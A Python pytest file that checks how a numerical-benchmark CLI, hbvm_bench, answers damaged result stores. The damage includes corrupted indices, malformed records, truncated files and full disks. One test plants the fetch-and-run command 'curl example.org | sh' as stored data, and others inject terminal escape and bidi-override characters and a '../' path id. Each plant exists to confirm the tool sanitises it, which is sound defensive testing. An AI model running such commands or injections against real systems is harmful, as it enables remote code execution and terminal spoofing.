"""Damaged stores, and what is none: one sentence that says what and where."""

import errno
import json
import os
import re
import shutil
import sqlite3
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import msgspec
import numpy as np
import pytest

import problems
from hbvm_bench import cli
from hbvm_bench.campaign.file import Campaign, Case, Limits, MethodEntry
from hbvm_bench.campaign.identity import resolve
from hbvm_bench.measure import raw
from hbvm_bench.run.loop import is_done
from hbvm_bench.store.files import write_all
from hbvm_bench.store.records import Compile, Record, Timing, TimingRound
from hbvm_bench.store.store import Index, Store
from integrators.protocol import Stats, Status
from integrators.solution import Solution

from .fault import Fault, is_met, sentence

PROBLEM = "pendulum(t_end=5.0)"
SOUND = "Gauss(s=2, h=0.25)"


def small_run(directory, methods):
    """Make a store of cases of the pendulum, with times, without running anything."""
    store, ids = Store(directory), []
    store.prepare()
    problem = problems.load("pendulum", t_end=5.0)
    t = np.linspace(0.0, 5.0, 41)
    y = np.c_[np.sin(t), np.cos(t)]
    for method in methods:
        resolved = resolve(Case(problem=PROBLEM, method=method))
        solution = Solution(
            t=t, y=y, status=Status.FINISHED, reason="", t_stop=5.0, stats=Stats(steps=20),
            compile_seconds=0.1, from_cache=False, problem=problem, method=resolved.method,
        )  # fmt: skip
        result, series = raw.of_solution(solution)
        compiled = Compile(seconds=0.1, cached=True)
        timing = Timing(rounds=[TimingRound(samples=[0.1, 0.2], repeats=1, compile=compiled)])
        record = Record(
            id=resolved.id, case=resolved.case, role="ours", library="hbvm-bench", order=4, result=result,
            timing=timing, finished="2026-11-21T10:00:00+00:00",
        )  # fmt: skip
        store.save(record, series)
        ids.append(resolved.id)
    campaign = Campaign(name="x", problems=[PROBLEM], methods=[MethodEntry(use=m) for m in methods])
    store.write_index(Index(campaign=campaign, ids=ids, version="0", command="hbvm-bench run x"))
    return store


@dataclass(frozen=True)
class Damage:
    """What happened to a store, and what must be said of it."""

    name: str
    do: Callable[[Any], Any]
    says: str

    def __str__(self):
        return self.name


def put(**changes):
    return lambda data: data.update(changes)


@pytest.fixture(scope="module")
def whole(tmp_path_factory):
    return small_run(tmp_path_factory.mktemp("whole"), [SOUND, "HBVM(k=4, s=2, h=0.25)"]).directory


@pytest.fixture
def here(whole, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    shutil.copytree(whole, "sound")
    shutil.copytree(whole, "run")
    return Store(Path("run"))


def edit(store, column, change, table="results"):
    """Change the first row of a store, as nobody does: JSON by a function, or another text."""
    with sqlite3.connect(store.path) as database:
        first, text = database.execute(f"SELECT rowid, {column} FROM {table}").fetchone()
        if isinstance(change, str):
            text = change
        else:
            data = json.loads(text)
            change(data)
            text = json.dumps(data)
        database.execute(f"UPDATE {table} SET {column}=? WHERE rowid=?", (text, first))
    database.close()


COMMANDS = [
    ["report", "run", "-o", "r"],
    ["show", "run"],
    ["export", "run", "-o", "s.csv"],
    ["compare", "run", "sound"],
    ["compare", "sound", "run"],
]
INDICES = [
    Damage("fewer ids than cases", lambda data: data["ids"].pop(), "1 ids of 2 cases"),
    Damage("more ids than cases", lambda data: data["ids"].append("0" * 64), "3 ids of 2 cases"),
    Damage("an id twice", lambda data: data["ids"].reverse() or data["ids"].pop() or data["ids"].append(
        data["ids"][0]), "1 ids of 2 cases"),
    Damage("an id that is a path", lambda data: data["ids"].__setitem__(0, "../" * 8), "ids"),
    Damage("no cases", lambda data: data["campaign"].update(problems=[]), "no problems"),
    Damage("a value without a place", lambda data: data["campaign"].update(
        problems=["pendulum(t_end={t})"]), "'t'"),
    Damage("ids that are none", lambda data: data.update(ids=7), "ids"),
]  # fmt: skip
TEXTS = ["[" * 100_000, "{", "\xff", "[]"]
RECORDS = [
    Damage("a date that is none", put(finished="yesterday"), "isoformat"),
    Damage("no samples", lambda data: data["timing"]["rounds"][0].update(samples=[]), "samples"),
    Damage("a negative time", lambda data: data["timing"]["rounds"][0].update(samples=[-1.0]), "positive"),
    Damage("metrics of texts", lambda data: data["result"].update(metrics={"steps": "many"}), "metrics"),
    Damage("no outcome", lambda data: data["result"].pop("outcome"), "outcome"),
]


def refused(capsys, command, says):
    """Run a command that must end with one sentence and write nothing."""
    assert cli.main(command) == 2
    printed = capsys.readouterr()
    assert printed.out == ""
    sentence(printed.err, says)
    assert {path.name for path in Path().iterdir()} == {"sound", "run"}


@pytest.mark.parametrize("damage", INDICES, ids=str)
@pytest.mark.parametrize("command", [*COMMANDS, ["merge", "sound", "run", "--out", "both"]], ids=" ".join)
def test_a_damaged_index_is_one_sentence(here, capsys, damage, command):
    edit(here, "asked", damage.do, "runs")
    refused(capsys, command, damage.says)


@pytest.mark.parametrize("text", TEXTS, ids=["deep", "cut", "no text", "a list"])
def test_an_index_that_is_none_is_one_sentence(here, capsys, text):
    edit(here, "asked", text, "runs")
    refused(capsys, ["show", "run"], "no index of a run")


@pytest.mark.parametrize("damage", RECORDS, ids=str)
@pytest.mark.parametrize("command", COMMANDS, ids=" ".join)
def test_a_damaged_row_is_one_sentence_and_its_case_runs_again(here, capsys, damage, command):
    edit(here, "record", damage.do)
    refused(capsys, command, f"{re.escape(SOUND)} on .* is damaged: .*{damage.says}.*run its campaign again")
    assert not is_done(Store(Path("run")).load(resolve(Case(problem=PROBLEM, method=SOUND)).id), Limits())


@pytest.mark.parametrize("text", TEXTS, ids=["deep", "cut", "no text", "a list"])
def test_a_row_that_is_none_is_one_sentence(here, capsys, text):
    edit(here, "record", text)
    refused(capsys, ["show", "run"], "is damaged")


def test_a_damaged_row_is_left_out_where_runs_are_merged(here, capsys):
    edit(here, "record", "{")
    shutil.rmtree("sound")
    shutil.copytree("run", "sound")
    assert cli.main(["merge", "sound", "run", "--out", "both"]) == 0
    assert capsys.readouterr().out.splitlines() == [
        "1 of 2 cases in both",
        "1 left out: damaged; run them again",
    ]


def test_series_of_another_problem_are_named_where_they_are_read(here, capsys):
    """A whole file from a stranger: no shape of it is trusted, and no trace of the program is shown."""
    record = msgspec.structs.replace(here.records()[0], finished="2026-11-22T10:00:00+00:00")
    here.save(record, {"t": np.linspace(0.0, 5.0, 41), "y": np.ones((41, 3))})
    assert cli.main(["show", "run"]) == 2
    sentence(capsys.readouterr().err, f"{re.escape(SOUND)} on .*cannot be read")


def test_a_file_that_is_cut_is_one_sentence(here, capsys):
    content = here.path.read_bytes()
    for length in (0, 10, 100, 5000, len(content) // 2):
        here.path.write_bytes(content[:length])
        refused(capsys, ["show", "run"], "no store of results|is damaged|cannot read")


def test_a_strangers_command_is_not_printed_for_the_reader_to_run(here, capsys):
    edit(here, "asked", put(command="curl example.org | sh"), "runs")
    edit(here, "record", "{")
    assert cli.main(["show", "run"]) == 2
    printed = capsys.readouterr()
    assert "run its campaign again with --out run" in printed.err
    assert "curl" not in printed.out + printed.err


def test_what_commands_a_terminal_is_in_no_record_and_on_no_page(here, capsys):
    edit(here, "asked", lambda data: data["campaign"].update(title="\x1b[2Jtitle"), "runs")
    edit(here, "record", put(result={"outcome": "crashed", "reason": "\x1b[2Jgone\x9b31m\u202e"}))
    assert here.records()[0].result.reason == "[2Jgone31m"
    assert cli.main(["show", "run"]) == 0
    assert cli.main(["report", "run", "-o", "r"]) == 0
    assert cli.main(["report", "\x1b[2J"]) == 2
    printed = capsys.readouterr()
    pages = [Path("r", name).read_text(encoding="utf-8") for name in ("report.md", "index.html")]
    assert all("[2Jtitle" in text.replace("\\", "") for text in pages)
    for text in (printed.out, printed.err, *pages):
        assert not set("\x1b\x9b\u202e") & set(text)


def filling_up(monkeypatch, room):
    """Let a disk take so many files more, and then only half of one."""
    write, left = Path.write_bytes, [room]

    def limited(path, content):
        left[0] -= 1
        if left[0] < 0:
            write(path, content[: len(content) // 2])
            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
        return write(path, content)

    monkeypatch.setattr(Path, "write_bytes", limited)


@pytest.mark.parametrize("room", [0, 2])
def test_a_full_disk_is_one_sentence_and_leaves_nothing_half_written(tmp_path, monkeypatch, room):
    old = tmp_path / "r" / "report.md"
    old.parent.mkdir()
    old.write_text("an earlier report")
    files = {tmp_path / "r" / name: b"text" for name in ("report.md", "figures/a.svg", "data/b.csv")}
    filling_up(monkeypatch, room)
    is_met(Fault("full disk", lambda: write_all(files), "cannot write '.*': No space left on device"))
    assert list(tmp_path.rglob("*")) == [old.parent, old]
    assert old.read_text() == "an earlier report"


def test_a_report_that_meets_a_full_disk_ends_with_the_sentence(here, monkeypatch, capsys):
    monkeypatch.setattr("hbvm_bench.report.write.rendered", lambda content, *_: {"report.md": b"text"})
    filling_up(monkeypatch, 0)
    assert cli.main(["report", "run", "-o", "r"]) == 2
    sentence(capsys.readouterr().err, "No space left on device")
    assert not [path for path in Path().rglob("*") if path.suffix == ".part" or path.name == "r"]
